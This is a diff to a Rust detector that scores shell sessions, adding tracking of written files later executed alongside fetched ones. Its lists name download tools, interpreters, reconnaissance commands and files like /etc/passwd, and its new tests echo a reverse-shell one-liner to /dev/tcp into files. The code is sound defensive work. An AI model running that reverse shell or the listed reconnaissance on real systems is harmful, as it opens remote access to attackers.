@@ -9,10 +9,11 @@ use std::collections::VecDeque;
 use audit_core::{Finding, Moment, Score};
 
 use crate::detector::{Assessment, excerpt};
+use crate::shell::{Flow, Origin, same_file};
 
 /// A step is worth half after this many seconds.
 const HALF_LIFE: f32 = 600.0;
-/// This many fetched files are remembered.
+/// This many written files are remembered.
 const FILES: usize = 16;
 /// Each line of looking around adds this much.
 const DISCOVERY: f32 = 0.05;
@@ -23,59 +24,43 @@ pub struct Chain {
     at: f32,
     discovery: f32,
     suspicion: f32,
-    /// Files fetched, by the last part of their name, and whether they were made executable.
-    fetched: VecDeque<(String, bool)>,
+    /// Files that were fetched.
+    flow: Flow,
+    /// Files that were written and would be a threat if they were run, and how much of one.
+    planted: VecDeque<(String, f32)>,
 }
 
 impl Chain {
     /// Takes the next line into account; may raise its score, never lowers it.
     pub fn step(&mut self, assessment: &mut Assessment, at: Moment) {
         self.fade(at);
-        let commands = assessment.resolved.commands.clone();
-        let mut raised: Option<(&str, &str, &str, f32)> = None;
-        for command in &commands {
-            let mut words = command.split(' ');
-            let program = words.next().unwrap_or("");
-            let rest: Vec<&str> = words.collect();
-            match program {
-                "curl" | "wget" | "scp" | "sftp" | "ftp" | "tftp" | "ftpget" | "fetch"
-                | "aria2c" => {
-                    self.remember(&rest);
-                }
-                "chmod" => self.executable(&rest),
-                _ => {}
+        let steps = std::mem::take(&mut assessment.resolved.steps);
+        let mut raised: Option<Raised> = None;
+        for command in &steps {
+            let (program, rest) = command.split_once(' ').unwrap_or((command, ""));
+            if let Some((origin, hidden)) = self.flow.step(command) {
+                raised = worse(raised, fetched(origin, hidden));
             }
-            let run = std::iter::once(program).chain(match program {
-                "sh" | "bash" | "dash" | "python3" | "python" | "perl" => rest.first().copied(),
-                _ => None,
-            });
-            for target in run.filter(|t| !t.is_empty()) {
-                if self.fetched.iter().any(|(name, ready)| {
-                    name == last(target) && (*ready || program != target) && name.len() > 1
-                }) {
-                    raised = Some((
-                        "session.fetched-run",
-                        "file fetched in this session is run",
-                        "download_exec",
-                        0.72,
-                    ));
-                }
+            if let Some(score) = self.planted_in(program, rest) {
+                raised = worse(raised, planted(score));
             }
-            if discovers(program, &rest) {
+            if discovers(program, rest) {
                 self.discovery = (self.discovery + 1.0).min(12.0);
             }
+        }
+        assessment.resolved.steps = steps;
+        self.planted.extend(assessment.planted.iter().cloned());
+        while self.planted.len() > FILES {
+            self.planted.pop_front();
         }
         let burst = (self.discovery * DISCOVERY).min(0.2);
         if assessment.rule >= 0.5
             && assessment.rule < 0.7
             && (burst >= 0.1 || self.suspicion >= 1.0)
         {
-            raised = raised.or(Some((
-                "session.chain",
-                "suspicious step after others",
-                "suspicious",
-                (assessment.score + burst.max(0.08)).min(0.75),
-            )));
+            let score = (assessment.score + burst.max(0.08)).min(0.75);
+            let chain = ("session.chain", "suspicious step after others", "suspicious", score);
+            raised = worse(raised, Some(chain));
         }
         if assessment.rule >= 0.5 {
             self.suspicion += assessment.rule;
@@ -102,59 +87,57 @@ impl Chain {
         self.discovery *= share;
         self.suspicion *= share;
         if share < 0.1 {
-            self.fetched.clear();
+            self.flow.clear();
+            self.planted.clear();
         }
         self.at = now;
     }
 
-    fn remember(&mut self, words: &[&str]) {
-        let mut target = None;
-        for (index, word) in words.iter().enumerate() {
-            match *word {
-                "-o" | "-O" | "--output" | ">" => {
-                    target = words.get(index + 1).filter(|w| !w.contains("://")).or(target);
-                }
-                _ => {}
-            }
-        }
-        let url = words.iter().find(|w| w.contains("://") || (w.contains('.') && w.contains('/')));
-        let Some(file) = target.or(url) else { return };
-        let safe = url.is_some_and(|u| {
-            ["https://github.com/", "https://dl.", "https://get.", "https://download"]
-                .iter()
-                .any(|s| u.starts_with(s))
+    /// How much of a threat a written file is that a command runs.
+    fn planted_in(&self, program: &str, rest: &str) -> Option<f32> {
+        let mut run = std::iter::once(program).chain(match program {
+            "sh" | "bash" | "dash" | "zsh" | "source" | "." | "python3" | "python" | "perl"
+            | "crontab" | "node" | "php" | "ruby" => rest.split(' ').find(|w| !w.starts_with('-')),
+            _ => None,
         });
-        if !safe && *file != "-" {
-            self.fetched.push_back((last(file).to_owned(), false));
-            if self.fetched.len() > FILES {
-                self.fetched.pop_front();
-            }
-        }
-    }
-
-    fn executable(&mut self, words: &[&str]) {
-        let opens = words
-            .first()
-            .is_some_and(|m| m.contains('x') || m.bytes().any(|b| matches!(b, b'7' | b'5')));
-        for word in words.iter().skip(1).filter(|_| opens) {
-            for (name, ready) in &mut self.fetched {
-                *ready |= name == last(word);
-            }
-        }
+        run.find_map(|target| self.planted.iter().find(|(path, _)| same_file(path, target)))
+            .map(|(_, score)| *score)
     }
 }
 
-fn last(path: &str) -> &str {
-    path.trim_end_matches('/').rsplit(['/', '=']).next().unwrap_or(path)
+/// A rule of this module that fired: its name, title, category and score.
+type Raised = (&'static str, &'static str, &'static str, f32);
+
+fn worse(known: Option<Raised>, new: Option<Raised>) -> Option<Raised> {
+    match (known, new) {
+        (Some(known), Some(new)) if known.3 >= new.3 => Some(known),
+        (known, new) => new.or(known),
+    }
+}
+
+fn fetched(origin: Origin, hidden: bool) -> Option<Raised> {
+    let score = match origin {
+        Origin::Known => return None,
+        Origin::Site if hidden => 0.75,
+        Origin::Site => 0.6,
+        Origin::Plain => 0.72,
+        Origin::Address => 0.8,
+    };
+    let title = "file fetched in this session is run";
+    Some(("session.fetched-run", title, "download_exec", score))
+}
+
+fn planted(score: f32) -> Option<Raised> {
+    Some(("session.written-run", "hostile file written in this session is run", "execution", score))
 }
 
 /// Whether a command only looks around.
-fn discovers(program: &str, rest: &[&str]) -> bool {
+fn discovers(program: &str, rest: &str) -> bool {
     match program {
         "whoami" | "id" | "hostname" | "uname" | "ifconfig" | "netstat" | "arp" | "route" | "w"
         | "last" | "lastlog" | "lscpu" | "lsmod" | "groups" | "nproc" | "dmidecode" => true,
         "ip" | "ss" | "ps" => true,
-        "cat" | "less" | "head" => rest.iter().any(|r| {
+        "cat" | "less" | "head" => rest.split(' ').any(|r| {
             [
                 "/etc/passwd",
                 "/etc/issue",
@@ -164,10 +147,9 @@ fn discovers(program: &str, rest: &[&str]) -> bool {
                 "/etc/hosts",
                 "/etc/group",
             ]
-            .contains(r)
+            .contains(&r)
         }),
-        "sudo" => rest == ["-l"],
-        "crontab" => rest == ["-l"],
+        "sudo" | "crontab" => rest == "-l",
         _ => false,
     }
 }
@@ -208,6 +190,26 @@ mod tests {
             ("wget http://h.example/data.csv", 1),
             ("chmod +x tool", 2),
             ("./tool data.csv", 3),
+        ]);
+        assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
+    }
+
+    #[test]
+    fn a_hostile_file_counts_when_it_is_run() {
+        let found = scores(&[
+            ("echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > notes/run.sh", 1),
+            ("ls notes", 2),
+            ("bash notes/run.sh", 3),
+        ]);
+        assert!(found[0] < 0.7 && found[1] < 0.7 && found[2] >= 0.9, "{found:?}");
+    }
+
+    #[test]
+    fn a_document_that_quotes_an_attack_may_be_read() {
+        let found = scores(&[
+            ("echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > notes.md", 1),
+            ("cat notes.md", 2),
+            ("git add notes.md", 3),
         ]);
         assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
     }
